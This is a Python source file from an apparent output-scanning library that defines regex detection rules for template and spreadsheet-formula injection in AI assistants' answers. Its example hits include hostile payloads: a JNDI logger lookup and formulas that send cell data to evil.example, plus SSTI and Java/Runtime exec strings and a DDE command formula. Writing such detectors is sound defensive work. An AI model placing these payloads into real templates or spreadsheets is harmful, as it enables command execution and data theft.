"""Template or formula injection in an answer: what an answer must not hold unmarked."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass
from typing import ClassVar

from bartizan.core.segment import Role
from bartizan.core.severity import Severity
from bartizan.detect.rules import Rule, Ruled
from bartizan.registry import Meta

_RULES: Sequence[Rule] = (
    Rule(
        0.9,
        "an expression that reaches the interpreter",
        r"(?i)\{\{[^{}\n]{0,200}(?:__class__|__mro__|__globals__|__subclasses__|__builtins__|__import__|__init"
        r"__|config\.items|request\.application|lipsum|cycler|joiner|get_flashed_messages|self\._templaterefer"
        r"ence|popen|constructor\.constructor|_self\.env|getruntime)[^{}\n]{0,300}",
    ),
    Rule(
        0.85,
        "a statement that reaches the interpreter",
        r"(?i)\{%[^%\n]{0,200}(?:__class__|__globals__|__subclasses__|__import__|popen|import\s{1,4}os)[^%\n]{"
        r"0,200}",
    ),
    Rule(
        0.75,
        "a probe for a template engine",
        r"\{\{\s{0,4}\d{1,4}\s{0,4}\*\s{0,4}'?\d{1,4}'?\s{0,4}\}\}|\$\{\s{0,4}\d{1,4}\s{0,4}\*\s{0,4}\d{1,4}\s"
        r"{0,4}\}|<%=\s{0,4}\d{1,4}\s{0,4}\*\s{0,4}\d{1,4}\s{0,4}%>|#\{\s{0,4}\d{1,4}\s{0,4}\*\s{0,4}\d{1,4}\s"
        r"{0,4}\}",
    ),
    Rule(
        0.9,
        "an expression that runs Java",
        r"(?i)\$\{[^{}\n]{0,100}(?:t\(java\.lang|java\.lang\.runtime|getclass\(\)|class\.forname|processbuilde"
        r"r|new\s{1,4}java|exec\()[^{}\n]{0,300}",
    ),
    Rule(
        0.95,
        "a lookup of a logger",
        r"(?i)\$\{(?:jndi|\$\{[^}]{1,20}\}ndi|lower:j|upper:j|::-j)[^\n\s]{0,200}",
    ),
    Rule(
        0.9,
        "a template that runs commands",
        r"(?i)<#assign\s[^>\n]{0,100}(?:freemarker\.template\.utility\.execute|objectconstructor|jythonruntime"
        r')[^>\n]{0,100}|"freemarker\.template\.utility\.execute"',
    ),
    Rule(
        0.8,
        "a template that runs code",
        r"""(?i)<%=?\s{0,4}(?:system|`|exec|io\.popen|file\.(?:open|read)|require\s{0,4}\(?\s{0,2}['"]child_proc"""
        r"ess|global\.process)[^%\n]{0,200}",
    ),
    Rule(
        0.85,
        "a template that runs Java",
        r"(?i)#set\s{0,4}\(\s{0,4}\$\w{1,20}\s{0,4}=\s{0,4}[^)\n]{0,80}(?:class\.forname|getruntime|inspect\()"
        r"[^\n]{0,200}",
    ),
    Rule(
        0.9,
        "a formula that starts a program",
        r"""(?i)(?:^|[\n,;\t"'])\s{0,4}[=+@-]{1,2}\s{0,4}(?:cmd|dde|ddeauto|msexcel|rundll32|powershell|mshta)\s"""
        r"{0,4}\|[^\n]{1,200}",
    ),
    Rule(
        0.75,
        "a formula that sends data",
        r"""(?i)(?:^|[\n,;\t"'])\s{0,4}[=+@-]{1,2}\s{0,4}(?:[a-z0-9.]{1,20}\()?\s{0,4}(?:hyperlink|webservice|im"""
        r"portxml|importhtml|importdata|importfeed|importrange|image|filterxml|dde|call|exec|register\.id|rtd)"
        r"\s{0,4}\([^\n]{1,300}",
    ),
)


@dataclass(frozen=True, kw_only=True)
class Template(Ruled):
    """Text that a template engine or a spreadsheet would compute."""

    meta: ClassVar[Meta] = Meta(
        id="output.template",
        title="Template or formula injection in an answer",
        why=(
            "A template engine or a spreadsheet that is given the answer computes what stands in it, "
            "up to running commands."
        ),
        severity=Severity.HIGH,
        tags=(
            "owasp-llm:2026:LLM10",
            "cwe:4:CWE-1336",
            "cwe:4:CWE-1236",
        ),
        references=(
            "https://portswigger.net/research/server-side-template-injection",
            "https://owasp.org/www-community/attacks/CSV_Injection",
        ),
        false_positives="Answers that teach template engines or spreadsheets.",
        hits=(
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "{{7*7}}",
            "${7*7}",
            "${jndi:ldap://evil.example/a}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "<%= system('id') %>",
            "=cmd|' /C calc'!A0",
            'name,=HYPERLINK("https://evil.example?d="&A1,"open")',
            '=IMPORTXML(CONCAT("https://evil.example/?",A2),"//a")',
        ),
        misses=(
            "Hello {{ name }}, your order is on its way.",
            "echo ${HOME}",
            "=SUM(A1:A5)",
            "<%= user.name %>",
            "The rate is 5 + cmd per unit.",
        ),
    )
    rules: ClassVar[Sequence[Rule]] = _RULES
    category: str = "template"
    roles: tuple[Role, ...] = (Role.ASSISTANT,)
    in_code: float = 0.7
